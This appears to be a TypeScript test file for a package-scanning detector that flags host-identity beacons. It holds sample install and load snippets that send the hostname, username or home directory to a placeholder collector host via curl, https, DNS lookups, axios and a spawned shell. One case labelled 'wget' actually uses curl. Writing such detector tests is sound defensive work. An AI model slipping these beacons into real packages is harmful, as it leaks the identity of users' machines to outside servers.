import { hooked, installed, loaded, testDetector } from "../../test/test-detector.ts";
import { hostBeacon } from "./index.ts";

testDetector(hostBeacon, {
  fires: {
    "curl with substitutions": ["decisive", hooked('curl "http://collector.invalid/$(hostname)/$(whoami)"')],
    "a query in a URL": [
      "decisive",
      installed(`const os = require("os");
        require("https").get(\`https://collector.invalid/?h=\${os.hostname()}&u=\${os.userInfo().username}\`);`),
    ],
    "names that are looked up": [
      "decisive",
      installed(`const os = require("os"), dns = require("dns");
        dns.resolve4(os.hostname() + ".collector.invalid", () => {});`),
    ],
    "a client from another package on loading": [
      "strong",
      loaded(`const os = require("os"); const axios = require("axios");
        const data = { host: os.hostname(), home: os.homedir() };
        axios.post("https://collector.invalid/", data).catch(() => {});`),
    ],
    "wget in a process": [
      "strong",
      installed(`const os = require("os");
        require("child_process").exec("curl https://collector.invalid/?h=" + os.hostname());`),
    ],
  },
  silent: {
    "a name of a platform": installed(
      `const os = require("os"); require("https").get("https://downloads.example/" + os.platform() + "-" + os.arch());`,
    ),
    "a server that says where it runs": loaded(
      `const os = require("os"); module.exports = () => console.log("running on " + os.hostname());`,
    ),
  },
});
